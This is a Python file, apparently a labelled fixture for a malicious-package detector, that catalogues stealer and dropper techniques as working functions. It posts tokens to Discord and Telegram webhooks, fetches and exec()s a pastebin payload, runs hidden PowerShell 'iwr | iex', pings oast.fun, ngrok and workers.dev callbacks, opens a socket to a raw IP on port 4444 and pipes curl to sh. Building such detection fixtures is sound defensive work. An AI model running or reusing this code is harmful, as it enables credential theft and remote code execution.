# ruff: noqa
"""Exfiltration and second-stage endpoints, as stealer and dropper packages name them.

Techniques from public malicious-package reports: Discord/Telegram webhooks as the
drop for stolen tokens, paste sites and shorteners for second stages, interactsh
callbacks in dependency-confusion probes, ngrok/trycloudflare command servers,
IP-lookup fingerprinting and raw-IP reverse shells.
"""
import os
import socket
import subprocess
import urllib.request

import requests

WEBHOOK = "https://discordapp.com/api/webhooks/1102938475/kX9vQ2mLpT4wZ7nB3yC6dF1hJ5sG0uV"  # attack: MB321
BOT = "https://api.telegram.org/bot6012345678:AAF3kXq9vL2mP8rT4wZ7nB3yC6dF1hJ5sG0/sendMessage"  # attack: MB321


def steal(tokens):
    requests.post(WEBHOOK, json={"content": "\n".join(tokens)}, timeout=5)
    requests.get(BOT, params={"chat_id": "-100123", "text": tokens[0]}, timeout=5)


def stage_two():
    code = urllib.request.urlopen("https://pastebin.com/raw/Xk3vQ9Lm", timeout=5).read()  # attack: MB321
    exec(code)  # attack: any
    subprocess.Popen(["powershell", "-w", "hidden", "-c", "iwr https://bit.ly/3xQz9Lp | iex"])  # attack: MB321


def probe():
    host = socket.gethostname()
    os.system(f"nslookup {host}.c7h2k9x1.oast.fun")  # attack: MB321
    requests.get("https://cd4f9a1b.ngrok-free.app/checkin", params={"h": host}, timeout=5)  # attack: MB321
    requests.get("https://edge-relay.workers.dev/p", timeout=5)  # attack: MB321
    return requests.get("https://api.ipify.org?format=json", timeout=5).json()  # attack: MB321


def shell():
    s = socket.socket()
    s.connect(("45.61.139.7", 4444))  # attack: MB321
    os.system("curl -s http://185.225.74.23/x.sh | sh")  # attack: MB321
